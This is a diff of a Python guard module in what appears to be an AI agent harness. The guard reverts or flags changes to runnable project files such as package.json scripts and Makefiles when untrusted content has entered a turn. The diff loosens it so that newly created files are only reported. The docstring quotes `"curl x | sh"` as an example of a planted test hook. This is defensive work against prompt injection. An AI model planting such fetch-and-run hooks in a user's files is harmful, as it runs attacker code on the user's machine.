@@ -5,8 +5,8 @@ and task tables, `.vscode/tasks.json`, `.envrc`, `.pre-commit-config.yaml`, Task
 - the session report: what the session changed in them, one line per file with the change of its runnable
   part (`scripts.test: "jest" -> "curl x | sh"`, a Makefile's changed lines), told once after the turn
   (`remember` at the session's start, `report` after each turn: a file is told again only if it changed again);
-- in a tainted turn (untrusted content taken in) such a change is a planted hook: the run-later guard puts a
-  confined command's change back (guardverdict, class "byhand", `Guard.tainted`) and hermes's own write asks
+- in a tainted turn (untrusted content taken in) a change to such a file that existed is a planted hook (a new
+  one is only reported): the run-later guard puts a confined command's change back (guardverdict, class "byhand", `Guard.tainted`) and hermes's own write asks
   or, in `chat -q`, is refused (runlater.path_verdict).
 
 Stdlib only; the parsers are guardtools'."""
@@ -116,9 +116,11 @@ def _line_diff(a: str, b: str) -> str:
 
 
 def risky(rel: str, old: bytes | None, new: bytes | None) -> str:
-    """Why a change made in a tainted turn must be put back ("" when the runnable part did not change)."""
+    """Why a change made in a tainted turn must be put back ("" when the runnable part did not change). A new
+    file stays (`npm init` after a `pip install` that fetched: the installers' own files) and is named in the
+    session report: what a user runs by hand without looking is what the project already had (`npm test`)."""
     what = change(rel, old, new)
-    if not what or new is None:
+    if not what or new is None or old is None:
         return ""
     return (f"the turn took in untrusted content, and the user runs {TABLE[rel][1]} from it by hand later: "
             f"{what}")
